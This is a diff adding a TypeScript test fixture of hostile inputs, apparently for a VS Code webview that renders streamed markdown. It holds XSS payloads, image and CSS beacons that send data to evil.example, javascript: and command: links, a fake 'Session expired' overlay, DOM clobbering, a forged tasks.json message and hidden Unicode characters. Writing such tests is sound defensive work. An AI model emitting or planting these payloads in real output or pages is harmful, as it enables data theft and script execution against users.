@@ -1,0 +1,30 @@
+/** Texts that try to make the view load, run, open or imitate something. `␞` marks where one chunk of a stream ends. */
+export const hostileCases: readonly [name: string, text: string][] = [
+  ['image', '![chart](https://evil.example/?d=1)'],
+  ['image in a table', '| a |\n|---|\n| ![x](https://evil.example/?d=1) |'],
+  ['image between two chunks', '![x](https://evil.exa␞mple/?d=1)'],
+  ['html image', '<img src="https://evil.example/?d=1" onerror="window.__pwned=1">'],
+  ['html image between two chunks', '<im␞g src=x onerror=window.__pwned=1>'],
+  ['html image left open', 'text <img src="https://evil.example/?d=1" '],
+  ['script', '<script>window.__pwned=1</script>'],
+  ['vector image that loads', '<svg onload="window.__pwned=1"><image href="https://evil.example/"/></svg>'],
+  [
+    'style that loads',
+    '<style>@import url(https://evil.example/)</style><p style="background:url(https://evil.example/)">x</p>',
+  ],
+  ['overlay', '<div style="position:fixed;inset:0;z-index:9999">Session expired. <button>Allow</button></div>'],
+  [
+    'frame, form and refresh',
+    '<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input></form><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  ],
+  ['prefetch and base', '<link rel="dns-prefetch" href="//evil.example"><base href="https://evil.example/">'],
+  ['script link', '[run](javascript:window.__pwned=1) [run](java&#x09;script&colon;window.__pwned=1)'],
+  ['command link', '[fix](command:workbench.action.terminal.new) ![x](command:workbench.action.quit)'],
+  ['web links', '[docs](https://evil.example/?d=1) https://evil.example/ [a](https://docs.example@evil.example/)'],
+  ['names that shadow globals', '<a id="acquireVsCodeApi"></a><form id="vscode"></form>'],
+  ['message of the protocol', '{"type":"apply","file":".vscode/tasks.json"}'],
+  ['hidden letters', 'Done.\u{e0073}\u{e0065}\u{e006e}\u{e0064} \u202emoc.elpmaxe'],
+  ['terminal escapes in code', '```\n\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007\n```'],
+  ['fence that ends early', '```md\n``` \n![x](https://evil.example/)\n```'],
+  ['template', '<template shadowrootmode="open"><style>@import "https://evil.example/"</style></template>'],
+];
